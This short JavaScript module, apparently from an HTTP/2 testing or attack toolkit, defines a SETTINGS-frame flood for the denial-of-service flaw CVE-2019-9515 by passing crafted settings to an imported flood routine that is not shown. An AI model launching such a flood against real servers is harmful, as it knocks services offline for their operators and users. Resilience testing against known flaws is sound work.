import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

/** CVE-2019-9515. */
export const attack = flood('SETTINGS flood', wire.settings([1, 4_096], [3, 100]));
